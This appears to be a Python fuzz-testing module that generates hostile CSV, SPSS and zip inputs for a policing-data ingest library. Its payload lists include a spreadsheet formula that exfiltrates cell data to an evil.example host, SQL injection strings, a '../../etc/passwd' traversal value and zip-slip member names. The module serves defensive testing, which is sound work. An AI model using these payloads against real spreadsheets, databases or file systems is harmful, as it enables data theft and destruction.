"""Hypothesis strategies for hostile input files, shared by the store's fuzz tests and ``benchmarks/fuzz_readers.py``
(issue 12, "Fuzzing").

A :class:`Case` is what one ingest is given: a reader (``"policeuk"``, ``"records"``, ``"areas"`` or ``"survey"``), its files
(:class:`GenFile`: a name, the exact bytes, and how many records the generator wrote) and how they are laid out on
disk (one file — the survey reader takes one file, a CSV or an SPSS ``.sav`` — a folder, or a zip — possibly holding zips, duplicate member names, hidden members, directory
entries and member names with ``..``). :func:`write_case` puts a case on disk under a folder and returns the path to
ingest, the names the ingest report must mention (in ``report.files`` or ``report.ignored``) and the records each
file holds, so a harness can check that nothing was dropped and every record was counted.

Hostile content (:data:`HOSTILE_TEXT`, :data:`HOSTILE_BYTES`, :func:`hostile_line`): unterminated quotes, 1,000+
fields on a line, very long fields (1 MB), NUL bytes, Latin-1 / Windows-1252 bytes, BOMs, CRLF/LF/CR mixes, rich
markup, mathtext, bidi overrides, control characters, spreadsheet formulas and SQL fragments.

Records are counted the way the readers promise to count them: every non-blank line the generator wrote is one
record (a quoted field may span lines; csv.writer quotes such fields), and a blank line is not a record.
"""

from __future__ import annotations

import csv
import io
import os
import tempfile
import warnings
import zipfile
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
from hypothesis import strategies as st

from whatworks.store import policeuk
from whatworks.store._sources import MAX_ZIP_DEPTH

HERE = Path(__file__).resolve().parent
NORTHSHIRE = HERE / "fixtures" / "records" / "northshire"
MAPPING_TEXT = (NORTHSHIRE / "mapping.toml").read_text(encoding="utf-8")

# ------------------------------------------------------------------------------------------------ payloads
BIG_FIELD = 1 << 20          # a 1 MB field
WIDE_FIELDS = (1000, 2500)   # fields on a "wide" line

HOSTILE_TEXT: tuple[str, ...] = (
    "[/bold]", "[/bold] Police", "[link=http://evil.example]x[/link]", "[red]x", "[[/]]",
    "$\\frac{$", "$x^{$", "$", "\\$\\$",
    "\u202eevil\u202c", "\u202dLTR", "\u200f", "\ufeff",                       # bidi overrides, a BOM inside a field
    "\x1b[31mred\x1b[0m", "\x07\x08\x0b\x0c", "\x7f", "\x00", "a\x00b",        # control characters, NUL
    '=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
    "'); DROP TABLE events; --", '"; DROP TABLE batches; --', "1' OR '1'='1", "Robert'); DELETE FROM quarantine;--",
    '"', '""', 'a"b', ",", ";", "\n", "\r\n", "\r",
    "Zoë Brontë", "Ren\u00e9e", "\u4e2d\u6587", "\U0001f4a9", "\u0301", "\ud7ff",
    "", " ", "NULL", "nan", "None", "-0", "1e309", "99999999999999999999", "0x10", "../../etc/passwd",
)
# raw bytes that are not valid UTF-8 (Latin-1 / Windows-1252) or are otherwise hostile
HOSTILE_BYTES: tuple[bytes, ...] = (
    b"Jos\xe9 Br\xf6n", b"\x93smart quotes\x94", b"\x80\x81\xfe\xff", b"M\xfcller", b"\xef\xbb\xbf",
    b"\xff\xfe", b"\xc3", b"\xed\xa0\x80", b"\x00\x00",
)

# ------------------------------------------------------------------------------------------------ readers' shapes
POLICEUK = {
    "street": (policeuk.STREET.header, "2024-01-met-street.csv", [
        "a" * 64, "2024-01", "Metropolitan Police Service", "Metropolitan Police Service", "-0.1", "51.5",
        "On or near High Street", "E01000001", "City of London 001A", "Burglary", "Under investigation", ""]),
    "outcomes": (policeuk.OUTCOMES.header, "2024-01-met-outcomes.csv", [
        "a" * 64, "2024-01", "Metropolitan Police Service", "Metropolitan Police Service", "-0.1", "51.5",
        "On or near High Street", "E01000001", "City of London 001A", "Investigation complete; no suspect identified"]),
    "stop_search": (policeuk.STOP_SEARCH.header, "2024-01-met-stop-and-search.csv", [
        "Person search", "2024-01-05T22:10:00+00:00", "False", "", "51.5", "-0.1", "Male", "18-24",
        "White - English/Welsh/Scottish/Northern Irish/British", "White", "Misuse of Drugs Act 1971 (section 23)",
        "Controlled drugs", "A no further action disposal", "False", "False"]),
}
# (header, file names matching the northshire mapping, a valid row, delimiter, encoding)
RECORDS = {
    "crimes": (("CrimeRef", "Committed", "Offence", "Easting", "Northing", "Address", "LSOA", "Status"),
               ("crimes_2024-01.csv", "crimes_2024-02.csv"),
               ["CR/24/0001", "03/01/2024 14:30", "BUR-RES", "430100", "433200", "12, High Street", "E01000001", "NFA"],
               ",", "utf-8"),
    "stops": (("SearchRef", "DateTime", "SubjectID", "Lon", "Lat", "Sex", "AgeBand", "Object", "Power", "Result",
               "Linked", "OpFlag"), ("stops_2024-01.csv",),
              ["SS/1", "2024-01-05T22:10:00", "P1", "-1.5491", "53.8008", "M", "18-24", "Controlled drugs",
               "Misuse of Drugs Act 1971 (section 23)", "A no further action disposal", "no", "N"], ",", "utf-8"),
    "arrests": (("ArrestRef", "ArrestDate", "PersonID", "Offence"), ("arrests_2024-01.csv",),
                ["AR/1", "04/01/2024", "P7", "BUR-RES"], ",", "utf-8"),
    "persons": (("PersonID", "Forename", "Surname", "DOB", "Sex"), ("persons.csv",),
                ["P1", "James", "Smith", "01/02/1990", "M"], ",", "utf-8"),
    "roles": (("CrimeRef", "PersonID", "Involvement"), ("involvement.csv",), ["CR/24/0001", "P1", "VIC"], ",", "utf-8"),
    "caseload": (("CRN", "First Name", "Last Name", "Date of Birth", "Postcode"), ("caseload_probation.csv",),
                 ["X100001", "Zoë", "Brontë", "03/03/1988", "LS1 4AP"], ";", "latin-1"),
}
AREAS = {
    "long": (("code", "name", "level", "parent_code", "population", "imd_score"),
             ["E01011229", "Leeds 001A", "lsoa", "", "1630", "12.5"]),
    "wide": (("lsoa_code", "lsoa_name", "ward_code", "ward_name", "lad_code", "lad_name", "population", "imd_score"),
             ["E01011229", "Leeds 001A", "E05011400", "Adel & Wharfedale", "E08000035", "Leeds", "1630", "12.5"]),
    "ons": (("LSOA21CD", "LSOA21NM", "LAD23CD", "LAD23NM", "population"),
            ["E01011229", "Leeds 001A", "E08000035", "Leeds", "1630"]),
}

# a public-attitude survey export: (header, a valid row); the mapping names its id, date and weight
SURVEY = (("respondent_id", "interview_date", "weight", "borough", "confident", "contact"),
          ["R0001", "2024-03-05", "1.25", "Camden", "1", "0"])
SURVEY_MAPPING = {"survey": {"name": "pas", "id": "respondent_id", "date": "interview_date", "weight": "weight"}}
SAV_MAX_TEXT = 2000          # SPSS strings are written as very long strings past 255 bytes: keep cases small


# ------------------------------------------------------------------------------------------------ the case
@dataclass
class GenFile:
    """One generated data file: ``records`` is the number of records written (None when it cannot be known)."""
    name: str
    data: bytes
    records: int | None = None
    tags: frozenset[str] = frozenset()


@dataclass
class Zipped:
    """A zip (on disk, or a member of another zip): members in writing order; a member is a GenFile, a nested
    Zipped, or a directory entry (a name ending in '/')."""
    name: str
    members: list = field(default_factory=list)


@dataclass
class Case:
    reader: str                     # "policeuk" | "records" | "areas" | "survey"
    layout: str                     # "file" | "folder" | "zip"
    items: list                     # GenFile / Zipped / ("symlink", name, GenFile) placed in the folder (or the one file)
    options: dict = field(default_factory=dict)

    def size(self) -> int:
        def sz(x):
            if isinstance(x, GenFile):
                return len(x.data)
            if isinstance(x, Zipped):
                return sum(sz(m) for m in x.members if not isinstance(m, str))
            if isinstance(x, tuple):
                return sz(x[2])
            return 0
        return sum(sz(i) for i in self.items)

    def tags(self) -> set[str]:
        out: set[str] = set()

        def walk(x):
            if isinstance(x, GenFile):
                out.update(x.tags)
            elif isinstance(x, Zipped):
                out.add("zip")
                for m in x.members:
                    walk(m)
            elif isinstance(x, tuple):
                out.add("symlink")
                walk(x[2])
        for i in self.items:
            walk(i)
        return out


# ------------------------------------------------------------------------------------------------ fields and lines
def _as_text(b: bytes) -> str:
    """Raw bytes carried through csv.writer as text (undecodable bytes as surrogates, restored on encoding)."""
    return b.decode("utf-8", "surrogateescape")


@st.composite
def hostile_field(draw, valid: str = "x") -> str:
    """A field value: the valid one, a hostile payload, hostile bytes, or random text around the valid value."""
    kind = draw(st.integers(0, 999))
    if kind < 300:
        return valid
    if kind < 650:
        return draw(st.sampled_from(HOSTILE_TEXT))
    if kind < 800:
        return _as_text(draw(st.sampled_from(HOSTILE_BYTES)))
    if kind < 803:                                   # rare: each costs a 1 MB file
        return "A" * BIG_FIELD
    if kind < 900:
        return valid + draw(st.sampled_from(HOSTILE_TEXT))
    return draw(st.text(max_size=8))


def _write_row(fields: list[str], delimiter: str) -> str:
    out = io.StringIO()   # lineterminator "\r\n" so that fields holding CR or LF are quoted; then removed
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerow(fields)
    return out.getvalue()[:-2]


@st.composite
def hostile_line(draw, valid: list[str], delimiter: str = ",") -> tuple[str, set[str]]:
    """One record as text (never blank), with tags naming what is hostile about it."""
    kind = draw(st.integers(0, 99))
    fields = list(valid)
    if kind < 25:
        return _write_row(fields, delimiter), {"valid"}
    if kind < 60:
        for _ in range(draw(st.integers(1, 3))):
            i = draw(st.integers(0, len(fields) - 1))
            fields[i] = draw(hostile_field(valid[i]))
        tags = {"mutated"}
        if any(len(f) >= BIG_FIELD for f in fields):
            tags.add("huge_field")
        if any("\x00" in f for f in fields):
            tags.add("nul")
        if any("\udc80" <= ch <= "\udcff" for f in fields for ch in f):
            tags.add("latin1")
        return _write_row(fields, delimiter), tags
    if kind < 68:
        return _write_row(fields[: draw(st.integers(1, max(1, len(fields) - 1)))], delimiter), {"short"}
    if kind < 74:
        return _write_row(fields + ["extra"] * draw(st.integers(1, 3)), delimiter), {"long"}
    if kind < 78:
        n = draw(st.integers(*WIDE_FIELDS))
        return delimiter * n, {"wide"}
    if kind < 86:
        # an unterminated quote: a quote opens a field and never closes on this line
        i = draw(st.integers(0, len(fields) - 1))
        fields = [_write_row([f], delimiter) for f in fields]
        fields[i] = '"' + valid[i].replace('"', "")
        return delimiter.join(fields), {"unterminated"}
    if kind < 92:
        # a raw line: no quotes or line breaks, never blank
        raw = draw(st.binary(min_size=1, max_size=40)).translate(None, b'\r\n"')
        return "#" + _as_text(raw), {"raw"}
    # the valid row with a hostile byte payload spliced in unquoted
    return _write_row(fields, delimiter) + _as_text(draw(st.sampled_from(HOSTILE_BYTES))), {"latin1"}


_EOLS = ("\n", "\r\n", "\r")


@st.composite
def delimited_file(draw, header, valid: list[str], name: str, *, delimiter: str = ",",
                   encoding: str = "utf-8", max_rows: int = 12) -> GenFile:
    """A delimited file: a header (right, damaged or missing), hostile records, mixed line endings, a BOM."""
    hkind = draw(st.integers(0, 99))
    header = list(header)
    tags: set[str] = set()
    if hkind < 70:
        pass
    elif hkind < 78:
        header = [h.upper() if draw(st.booleans()) else f" {h} " for h in header]
    elif hkind < 84:
        header = list(reversed(header))
    elif hkind < 90:
        header[draw(st.integers(0, len(header) - 1))] = draw(st.sampled_from(HOSTILE_TEXT))
        tags.add("bad_header")
    elif hkind < 94:
        header = header + [draw(st.sampled_from(HOSTILE_TEXT))]
        tags.add("bad_header")
    else:
        header = None          # headerless: the first line is a record
        tags.add("headerless")
    eol_mode = draw(st.sampled_from(["lf", "crlf", "cr", "mixed"]))
    lines: list[str] = []
    records = 0
    if header is not None:
        lines.append(_write_row(header, delimiter))
    for _ in range(draw(st.integers(0, max_rows))):
        if draw(st.integers(0, 99)) < 5:
            lines.append("")   # a blank line: not a record
            continue
        text, t = draw(hostile_line(valid, delimiter))
        lines.append(text)
        tags |= t
        records += 1
    if header is None and records:
        records -= 1           # the reader takes the first line as the header
    out: list[str] = []
    for k, line in enumerate(lines):
        out.append(line)
        if k < len(lines) - 1 or draw(st.booleans()):
            eol = {"lf": "\n", "crlf": "\r\n", "cr": "\r"}.get(eol_mode) or draw(st.sampled_from(_EOLS))
            out.append(eol)
    if eol_mode in ("cr", "mixed"):
        tags.add("cr")
    text = "".join(out)
    if encoding == "latin-1":
        data = text.encode("latin-1", "replace") if not any("\udc80" <= c <= "\udcff" for c in text) else \
            text.encode("utf-8", "surrogateescape")
    else:
        data = text.encode("utf-8", "surrogateescape")
    bom = draw(st.integers(0, 9))
    if bom == 0:
        data = b"\xef\xbb\xbf" + data
        tags.add("bom")
    elif bom == 1:
        data = b"\xff\xfe" + data   # a UTF-16 BOM on UTF-8 bytes
        tags.add("bom16")
    # a quoted field spanning lines whose line break is a lone CR is still one record; an unterminated quote or a
    # NUL makes the count the readers must reach a matter of policy, still the generator's count (issue 12 item 5)
    return GenFile(name, data, records, frozenset(tags))


@st.composite
def odd_file(draw, name: str) -> GenFile:
    """Not a delimited file of the reader's: empty, binary, a PDF, UTF-16 text; records unknown."""
    kind = draw(st.sampled_from(["empty", "binary", "pdf", "utf16", "nul"]))
    data = {
        "empty": b"",
        "binary": draw(st.binary(max_size=64)),
        "pdf": b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n",
        "utf16": "Crime ID,Month\n1,2024-01\n".encode("utf-16"),
        "nul": b"\x00" * draw(st.integers(1, 64)),
    }[kind]
    return GenFile(name, data, None, frozenset({"odd_" + kind}))


# ------------------------------------------------------------------------------------------------ per reader
@st.composite
def policeuk_file(draw) -> GenFile:
    kind = draw(st.sampled_from(sorted(POLICEUK)))
    header, name, valid = POLICEUK[kind]
    month = draw(st.sampled_from(["2024-01", "2024-02", "2023-12"]))
    valid = [month if v == "2024-01" else v for v in valid]
    name = name.replace("2024-01", month)
    if draw(st.integers(0, 19)) == 0:
        return draw(odd_file(name))
    return draw(delimited_file(header, valid, name))


@st.composite
def records_file(draw) -> GenFile:
    kind = draw(st.sampled_from(sorted(RECORDS)))
    header, names, valid, delimiter, encoding = RECORDS[kind]
    name = draw(st.sampled_from(names))
    if draw(st.integers(0, 19)) == 0:
        return draw(odd_file(name))
    return draw(delimited_file(header, valid, name, delimiter=delimiter, encoding=encoding))


@st.composite
def areas_file(draw) -> GenFile:
    kind = draw(st.sampled_from(sorted(AREAS)))
    header, valid = AREAS[kind]
    name = draw(st.sampled_from(["lookup.csv", "lsoa_lookup.csv", "areas_2021.csv"]))
    if draw(st.integers(0, 19)) == 0:
        return draw(odd_file(name))
    return draw(delimited_file(header, valid, name))


@st.composite
def sav_file(draw, name: str = "pas.sav") -> GenFile:
    """An SPSS .sav file (pyreadstat.write_sav) with hostile strings, value labels and user-missing codes,
    sometimes truncated or with bytes overwritten (then its records are unknown)."""
    import pyreadstat

    header, valid = SURVEY
    n = draw(st.integers(0, 10))
    cols: dict[str, list] = {h: [] for h in header}
    for k in range(n):
        for h, v in zip(header, valid):
            text = draw(hostile_field(v))
            text = text.encode("utf-8", "replace").decode("utf-8")[:SAV_MAX_TEXT]   # .sav text is UTF-8
            cols[h].append(text)
    df = pd.DataFrame(cols)
    if n and draw(st.booleans()):                    # numeric answers with labels and a "don't know" code
        df["confident"] = [draw(st.sampled_from([1.0, 2.0, 98.0, float("nan")])) for _ in range(n)]
    with tempfile.TemporaryDirectory(prefix="whatworks-fuzz-sav-") as tmp:
        path = Path(tmp) / "x.sav"
        kw = {}
        if "confident" in df and df["confident"].dtype.kind == "f":
            kw = {"variable_value_labels": {"confident": {1.0: "Yes", 2.0: "No", 98.0: "Don't know"}},
                  "missing_ranges": {"confident": [98.0]}}
        pyreadstat.write_sav(df, str(path), **kw)
        data = path.read_bytes()
    damage = draw(st.integers(0, 9))
    if damage == 0 and len(data) > 8:                # truncated
        data = data[: draw(st.integers(4, len(data) - 1))]
        return GenFile(name, data, None, frozenset({"sav", "sav_truncated"}))
    if damage == 1 and len(data) > 8:                # bytes overwritten past the magic number
        at = draw(st.integers(4, len(data) - 1))
        junk = draw(st.binary(min_size=1, max_size=16))
        data = data[:at] + junk + data[at + len(junk):]
        return GenFile(name, data, None, frozenset({"sav", "sav_damaged"}))
    return GenFile(name, data, n, frozenset({"sav"}))


@st.composite
def survey_file(draw) -> GenFile:
    """A survey file: a CSV of the survey's shape (hostile records as for every reader), a .sav, or not a survey."""
    kind = draw(st.integers(0, 19))
    if kind == 0:
        return draw(odd_file("survey.csv"))
    if kind <= 5:
        return draw(sav_file())
    header, valid = SURVEY
    return draw(delimited_file(header, valid, "survey.csv"))


FILE_OF = {"policeuk": policeuk_file, "records": records_file, "areas": areas_file, "survey": survey_file}

HOSTILE_NAMES = ("../escape.csv", "a/../../b.csv", "/abs.csv", "dir/../x.csv", "[/bold].csv", "$\\frac{$.csv",
                 "\u202evsc.csv", "é.csv", "sp ace.csv")


@st.composite
def a_zip(draw, reader: str, depth: int = 1) -> Zipped:
    """A zip of the reader's files: subfolders, duplicate member names, hidden members, directory entries, member
    names with '..', non-data members and (sometimes) zips inside it, up to two levels past the reader's limit."""
    members: list = []
    for _ in range(draw(st.integers(0, 4))):
        f = draw(FILE_OF[reader]())
        where = draw(st.integers(0, 9))
        if where < 5:
            f.name = "2024-01/" + f.name
        elif where == 5:
            f.name = draw(st.sampled_from(HOSTILE_NAMES)).replace(".csv", "") + "_" + f.name
        members.append(f)
    extra = draw(st.integers(0, 99))
    if extra < 15 and members:                       # a duplicate member name, other bytes
        dup = draw(FILE_OF[reader]())
        dup.name = members[0].name
        members.append(dup)
    elif extra < 25:
        members.append(GenFile(draw(st.sampled_from(["__MACOSX/._x.csv", ".DS_Store", "2024-01/.hidden.csv"])),
                               b"\x00\x05\x16\x07", None, frozenset({"hidden"})))
    elif extra < 33:
        members.append("2024-01/")                  # a directory entry
    elif extra < 40:
        members.append(GenFile("README.pdf", b"%PDF-1.4\n", None, frozenset({"non_data"})))
    elif extra < 48 and depth <= MAX_ZIP_DEPTH + 1:
        inner = draw(a_zip(reader, depth + 1))
        inner.name = f"inner{depth}.zip"
        members.append(inner)
    elif extra < 52:
        f = draw(FILE_OF[reader]())
        f.name = draw(st.sampled_from(HOSTILE_NAMES))
        members.append(f)
    return Zipped("archive.zip", members)


@st.composite
def a_case(draw, reader: str | None = None) -> Case:
    """One ingest's input for ``reader`` (drawn when None)."""
    reader = reader or draw(st.sampled_from(sorted(FILE_OF)))
    if reader == "survey":                           # the survey reader takes one file
        return Case(reader, "file", [draw(survey_file())], {"mapping": SURVEY_MAPPING})
    layout = draw(st.sampled_from(["file", "folder", "folder", "zip"]))
    if layout == "file":
        items = [draw(FILE_OF[reader]())]
    elif layout == "zip":
        items = [draw(a_zip(reader))]
    else:
        items = []
        for k in range(draw(st.integers(1, 4))):
            f = draw(FILE_OF[reader]())
            if draw(st.booleans()):
                f.name = f"m{k}/" + f.name
            items.append(f)
        extra = draw(st.integers(0, 99))
        if extra < 10:
            items.append(GenFile(".DS_Store", b"\x00\x00\x00\x01Bud1", None, frozenset({"hidden"})))
        elif extra < 18:
            items.append(GenFile("notes.pdf", b"%PDF-1.4\n", None, frozenset({"non_data"})))
        elif extra < 26:
            items.append(draw(a_zip(reader)))
        elif extra < 32:
            items.append(("symlink", "linked.csv", draw(FILE_OF[reader]())))
    # names within one folder must differ on disk (a zip may repeat them)
    seen: set[str] = set()
    for it in items:
        if isinstance(it, GenFile):
            while it.name.lower() in seen:
                it.name = "x" + it.name
            seen.add(it.name.lower())
    options = {"on_unknown": draw(st.sampled_from(["skip", "skip", "error"]))}
    return Case(reader, layout, items, options)


# ------------------------------------------------------------------------------------------------ to disk
def _zip_bytes(z: Zipped) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")            # zipfile warns on duplicate names: that is the point
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            for m in z.members:
                if isinstance(m, str):
                    zf.writestr(zipfile.ZipInfo(m), b"")
                elif isinstance(m, Zipped):
                    zf.writestr(m.name, _zip_bytes(m))
                else:
                    zf.writestr(m.name, m.data)
    return buf.getvalue()


def _zip_expect(z: Zipped, label: str, depth: int, names: Counter, records: dict) -> None:
    """Names an ingest report must mention for the zip ``z`` labelled ``label`` (1 = the outer zip)."""
    for m in z.members:
        if isinstance(m, str):
            continue                                # a directory entry is not a file
        name = f"{label}!{m.name}"
        if isinstance(m, Zipped):
            if depth <= MAX_ZIP_DEPTH and not Path(m.name).name.startswith("."):
                _zip_expect(m, name, depth + 1, names, records)
            else:
                names[name] += 1
            continue
        names[name] += 1
        records.setdefault(name, []).append(m)


def write_case(case: Case, root: Path) -> tuple[Path, Path | None, Counter, dict[str, list[GenFile]], list[Path]]:
    """Write ``case`` under ``root``. Returns (path to ingest, mapping path or None, names the report must mention,
    {name: [GenFile written under it]}, symlinks made)."""
    data_dir = root / "in"
    data_dir.mkdir(parents=True)
    names: Counter = Counter()
    records: dict[str, list[GenFile]] = {}
    links: list[Path] = []
    mapping = None
    if case.reader == "records":
        mapping = root / "mapping.toml"
        mapping.write_text(MAPPING_TEXT, encoding="utf-8")
    for it in case.items:
        if isinstance(it, tuple):                  # a symlink to a file outside the folder
            _, link_name, target = it
            outside = root / "outside" / target.name
            outside.parent.mkdir(exist_ok=True)
            outside.write_bytes(target.data)
            link = data_dir / link_name
            os.symlink(outside, link)
            links.append(link)
            names[str(link)] += 1
            continue
        if isinstance(it, Zipped):
            p = data_dir / it.name
            p.write_bytes(_zip_bytes(it))
            _zip_expect(it, str(p), 1, names, records)
            continue
        p = data_dir / it.name
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(it.data)
        names[str(p)] += 1                        # read, or listed as not read (hidden, not a data file)
        records.setdefault(str(p), []).append(it)
    if case.layout in ("file", "zip"):
        only = case.items[0]
        return data_dir / only.name, mapping, names, records, links
    return data_dir, mapping, names, records, links


__all__ = ["Case", "GenFile", "Zipped", "a_case", "a_zip", "hostile_field", "hostile_line", "delimited_file",
           "policeuk_file", "records_file", "areas_file", "survey_file", "sav_file", "write_case", "SURVEY_MAPPING", "HOSTILE_TEXT", "HOSTILE_BYTES", "MAPPING_TEXT"]
